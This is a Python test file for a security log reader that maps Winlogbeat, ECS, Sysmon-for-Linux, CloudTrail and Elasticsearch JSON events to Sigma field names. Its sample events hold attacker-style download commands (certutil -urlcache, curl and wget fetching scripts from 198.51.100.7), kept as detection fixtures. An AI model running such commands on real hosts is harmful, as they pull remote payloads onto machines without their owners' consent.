"""The JSON reader: JSON Lines, arrays, pretty-printed objects, and each event shape it knows."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

from events_support import HERE, read, write


def test_winlogbeat_documents_get_windows_and_sigma_names_and_keep_ecs_names() -> None:
    events, stream = read(HERE / "winlogbeat.ndjson")
    process, logon = events
    assert process["Image"] == "C:\\Windows\\System32\\certutil.exe"
    assert process["CommandLine"].startswith("certutil -urlcache")
    assert process["ParentImage"] == "C:\\Windows\\System32\\cmd.exe"
    assert process["User"] == "CORP\\alice"  # event_data wins over ECS user.name
    assert process["Channel"] == "Microsoft-Windows-Sysmon/Operational"
    assert (process["EventID"], process["Provider_Name"]) == ("1", "Microsoft-Windows-Sysmon")
    assert process["Computer"] == "WS01.corp.example"  # winlog wins over host.name
    assert process["process.command_line"] == process["CommandLine"]
    assert process["host.name"] == "ws01.corp.example"
    assert process["winlog.event_data.Image"] == process["Image"]
    assert json.loads(process["process.args"])[0] == "certutil"
    assert json.loads(process["event.category"]) == ["process"]
    assert process["_timestamp"] == datetime(2024, 3, 5, 10, 15, 30, 123000, tzinfo=UTC)
    assert (process["_event_id"], process["_host"]) == (1, "WS01.corp.example")
    assert process["_channel"] == "Microsoft-Windows-Sysmon/Operational"
    assert (process["_record_id"], process["_format"]) == (1, "json")
    assert json.loads(process["_raw"])["winlog"]["record_id"] == 41877
    assert logon["EventID"] == "4625" and logon["_event_id"] == 4625
    assert logon["SourceIp"] == "203.0.113.9" and logon["IpAddress"] == "203.0.113.9"
    assert logon["TargetUserName"] == "administrator" and logon["_record_id"] == 2
    assert stream.stats.problem_count == 0


def test_ecs_documents_without_winlog_get_sigma_names() -> None:
    events, _ = read(HERE / "ecs_endpoint.json")
    process, network = events
    assert process["Image"] == "/usr/bin/curl"
    assert process["CommandLine"] == "curl -s http://198.51.100.7/x.sh"
    assert process["ParentImage"] == "/bin/bash" and process["ParentProcessId"] == "700"
    assert process["User"] == "bob" and process["Computer"] == "laptop-7.corp.example"
    assert network["DestinationIp"] == "198.51.100.7" and network["DestinationPort"] == "80"
    assert network["SourceIp"] == "10.0.0.7" and network["Protocol"] == "tcp"
    assert [e["_record_id"] for e in events] == [2, 14]  # the line each object starts on
    assert network["_host"] == "laptop-7.corp.example"


def test_sysmon_for_linux_xml_shape_reads_like_evtx() -> None:
    (event,), _ = read(HERE / "sysmon_linux.json")
    assert event["Provider_Name"] == "Linux-Sysmon" and event["Provider_Guid"].startswith("{ff03")
    assert event["SystemTime"] == "2024-03-05T12:00:00.123456Z"
    assert (event["ProcessID"], event["ThreadID"], event["UserId"]) == ("1522", "1522", "0")
    assert event["Image"] == "/usr/bin/wget" and event["User"] == "www-data"
    assert event["CommandLine"] == "wget http://198.51.100.7/p -O /tmp/p"
    assert "FileVersion" not in event and "Description" not in event and "Correlation" not in event
    assert (event["_event_id"], event["_host"], event["_channel"]) == (
        1,
        "web-01",
        "Linux-Sysmon/Operational",
    )


def test_cloudtrail_records_are_one_event_each() -> None:
    events, _ = read(HERE / "cloudtrail.json")
    assert [e["eventName"] for e in events] == ["CreateAccessKey", "PutBucketPolicy"]
    assert events[0]["userIdentity.type"] == "IAMUser"
    assert events[0]["requestParameters.userName"] == "admin"
    assert events[0]["_provider"] == "iam.amazonaws.com"
    assert events[1]["_timestamp"] == datetime(2024, 3, 5, 9, 0, 5, tzinfo=UTC)
    assert json.loads(events[1]["_raw"])["eventName"] == "PutBucketPolicy"


def test_elasticsearch_hits_are_unwrapped(tmp_path: Path) -> None:
    hit = {"_index": "logs", "_id": "x1", "_source": {"process": {"executable": "/bin/sh"}}}
    (event,), _ = read(write(tmp_path / "hits.jsonl", json.dumps(hit) + "\n"))
    assert event["Image"] == "/bin/sh" and "_index" not in event
    assert json.loads(event["_raw"]) == hit


def test_nested_generic_json_becomes_dotted_names_and_values_become_text(tmp_path: Path) -> None:
    doc = {"a": {"b": {"c": 1}}, "flag": True, "ratio": 0.5, "none": None, "tags": ["x", 2]}
    (event,), _ = read(write(tmp_path / "g.jsonl", json.dumps(doc) + "\n"))
    assert (event["a.b.c"], event["flag"], event["ratio"]) == ("1", "true", "0.5")
    assert "none" not in event and json.loads(event["tags"]) == ["x", 2]


def test_field_names_that_clash_with_metadata_are_kept_aside(tmp_path: Path) -> None:
    (event,), _ = read(write(tmp_path / "m.jsonl", '{"_raw": "mine", "_host": "h"}\n'))
    assert event["_raw_field"] == "mine" and event["_host_field"] == "h"
    assert event["_raw"] == '{"_raw": "mine", "_host": "h"}'


def test_pretty_printed_objects_one_after_another(tmp_path: Path) -> None:
    docs = [{"n": index, "text": "x" * index} for index in range(5)]
    text = "\n".join(json.dumps(doc, indent=2) for doc in docs) + "\n"
    events, stream = read(write(tmp_path / "pretty.json", text))
    assert [e["n"] for e in events] == ["0", "1", "2", "3", "4"]
    assert [e["_record_id"] for e in events] == [1, 5, 9, 13, 17]
    assert json.loads(events[3]["_raw"]) == docs[3]
    assert stream.stats.bytes == len(text)


def test_a_large_array_is_read_in_pieces(tmp_path: Path) -> None:
    docs = [{"i": index, "pad": "p" * 300} for index in range(5000)]
    path = write(tmp_path / "big.json", json.dumps(docs))  # ~1.6 MB on one line
    events, stream = read(path, max_line_bytes=4096)
    assert len(events) == 5000 and events[-1]["i"] == "4999"
    assert stream.stats.problem_count == 0


def test_a_value_over_the_limit_stops_the_file_with_a_problem(tmp_path: Path) -> None:
    text = json.dumps({"small": 1}, indent=1) + json.dumps({"big": "b" * 10_000}, indent=1)
    events, stream = read(write(tmp_path / "over.json", "\n" + text), max_line_bytes=1000)
    assert [e.get("small") for e in events] == ["1"]
    assert "longer than 1000 bytes" in stream.stats.problems[0].reason


def test_bad_lines_in_json_lines_are_counted_and_skipped(tmp_path: Path) -> None:
    text = '{"a": 1}\nnot json\n\n42\n{"a": 2}\n{"a": \n'
    events, stream = read(write(tmp_path / "bad.jsonl", text))
    assert [e["a"] for e in events] == ["1", "2"]
    assert [p.location for p in stream.stats.problems] == ["line 2", "line 4", "line 6"]


def test_broken_json_in_a_document_file_is_reported_with_its_line(tmp_path: Path) -> None:
    text = '[\n  {"a": 1},\n  {"a": 2},\n  {"a": oops}\n]\n'
    events, stream = read(write(tmp_path / "broken.json", text))
    assert [e["a"] for e in events] == ["1", "2"]
    (problem,) = stream.stats.problems
    assert problem.location == "line 4" and "not JSON" in problem.reason


def test_a_json_array_per_line_gives_one_event_per_object(tmp_path: Path) -> None:
    events, _ = read(write(tmp_path / "lines.jsonl", '[{"a": 1}, {"a": 2}]\n[{"a": 3}]\n'))
    assert [(e["a"], e["_record_id"]) for e in events] == [("1", 1), ("2", 1), ("3", 2)]
